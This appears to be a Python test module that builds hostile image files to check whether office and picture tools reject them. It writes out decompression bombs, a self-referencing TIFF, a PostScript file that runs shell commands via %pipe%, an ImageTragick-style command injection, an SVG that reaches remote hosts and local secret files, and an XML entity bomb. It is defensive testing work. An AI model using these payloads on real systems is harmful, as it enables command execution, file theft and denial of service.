"""Pictures that swell, lie about what they are, or are programs."""

import io
import struct
import zlib
from collections.abc import Callable

from PIL import Image
from suite.attacks.model import Attack, Call, Scene
from suite.attacks.office import BOMB, book, deck


def uses(name: str) -> tuple[Call, ...]:
    """All that put a picture somewhere or show it."""
    return (
        ("add_slide_picture", {"path": "a.pptx", "slide": 1, "picture": name}),
        ("set_slide_background", {"path": "a.pptx", "slides": [1], "picture": name}),
        ("add_sheet_picture", {"path": "a.xlsx", "sheet": "S", "picture": name}),
        ("inspect", {"path": name}),
        ("render", {"path": name}),
    )


def planted(name: str, make: Callable[[Scene], bytes]) -> Callable[[Scene], None]:
    """A deck, a workbook, and this picture."""

    def plant(scene: Scene) -> None:
        deck(scene)
        book(scene)
        (scene.root / name).write_bytes(make(scene))

    return plant


def chunk(kind: bytes, data: bytes) -> bytes:
    """A chunk of a PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, *, more: bytes = b"", data: bytes = b"") -> bytes:
    """A black and white PNG that says it has this size."""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + more + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def huge(scene: Scene) -> bytes:
    """Forty thousand by forty thousand pixels in some kilobytes."""
    packer = zlib.compressobj(9)
    row = bytes(40_000 // 8 + 1)
    return png(40_000, 40_000, data=b"".join(packer.compress(row * 100) for _ in range(400)) + packer.flush())


def noted(scene: Scene) -> bytes:
    """A pixel with a note of eighty megabytes."""
    note = zlib.compress(bytes(80_000_000), 1)
    return png(1, 1, more=chunk(b"zTXt", b"Comment\0\0" + note), data=zlib.compress(b"\0\0"))


def saved(kind: str, size: tuple[int, int] = (40, 40)) -> bytes:
    """An honest picture."""
    held = io.BytesIO()
    Image.new("RGB", size, "teal").save(held, kind)
    return held.getvalue()


def film(scene: Scene) -> bytes:
    """A GIF of five thousand frames."""
    first = saved("GIF", (8, 8))
    start = first.index(b",")
    return first[:start] + first[start:-1] * 5_000 + b";"


def circle(scene: Scene) -> bytes:
    """A TIFF whose list of pictures leads back to its start."""
    content = bytearray(saved("TIFF"))
    at = struct.unpack("<I", content[4:8])[0]
    count = struct.unpack("<H", content[at : at + 2])[0]
    content[at + 2 + 12 * count : at + 6 + 12 * count] = struct.pack("<I", at)
    return bytes(content)


def postscript(scene: Scene) -> bytes:
    """A program in PostScript, which a converter would run."""
    return (
        b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 99 99\n%%EndComments\n"
        + f"({scene.outside}/pwned) (w) file closefile\n".encode()
        + f"mark /OutputFile (%pipe%touch {scene.outside}/pwned2) currentdevice putdeviceprops\n".encode()
        + b"showpage\n%%EOF\n"
    )


def magick(scene: Scene) -> bytes:
    """A drawing language with a command in a file name (ImageTragick)."""
    return f"push graphic-context\nfill 'url(https://{scene.web}/\"|touch {scene.outside}/pwned\")'\npop".encode()


def text(content: str) -> Callable[[Scene], bytes]:
    """Some text."""
    return lambda scene: content.replace("{web}", scene.web).replace("{out}", str(scene.outside)).encode()


SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40">'
    '<image xlink:href="http://{web}/svg.png" width="9" height="9"/><image href="file://{out}/red.png" width="9" '
    'height="9"/><use href="http://{web}/use.svg#a"/><style>@import url(http://{web}/svg.css);</style>'
    '<script>fetch("http://{web}/svg-fetch")</script><foreignObject width="9" height="9">'
    '<iframe xmlns="http://www.w3.org/1999/xhtml" src="file://{out}/secret.txt"/></foreignObject></svg>'
)
SVG_BOMB = f'{BOMB}<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&i;</text></svg>'


def bad(name: str, file: str, make: Callable[[Scene], bytes]) -> Attack:
    """A picture that nobody takes."""
    return Attack(name, planted(file, make), uses(file), refused="pixel|picture|image|empty|SVG")


def odd(name: str, file: str, make: Callable[[Scene], bytes]) -> Attack:
    """A picture that is taken as what it is, or refused."""
    return Attack(name, planted(file, make), uses(file), may_refuse=True)


ATTACKS = (
    bad("a picture of a billion pixels", "a.png", huge),
    odd("a picture with a swollen note", "a.png", noted),
    odd("a film of thousands of frames", "a.gif", film),
    odd("a picture that leads back to itself", "a.tiff", circle),
    bad("a picture cut off", "a.png", lambda scene: saved("PNG")[:50]),
    bad("an empty picture", "a.png", lambda scene: b""),
    bad("a picture of no size", "a.png", lambda scene: png(0, 0)),
    odd("a JPEG named PNG", "a.png", lambda scene: saved("JPEG")),
    bad("a text named PNG", "a.png", text("hello")),
    bad("a web page named PNG", "a.png", text('<img src="http://{web}/page.png">')),
    bad("a drawing named PNG", "a.png", text(SVG)),
    bad("a PDF named PNG", "a.png", text("%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>")),
    odd("a program in PostScript", "a.eps", postscript),
    bad("a program in PostScript named PNG", "a.png", postscript),
    odd("a drawing with a command", "a.mvg", magick),
    bad("a drawing with a command named PNG", "a.png", magick),
    odd("a drawing with links", "a.svg", text(SVG)),
    odd("a drawing with an entity bomb", "a.svg", text(SVG_BOMB)),
)
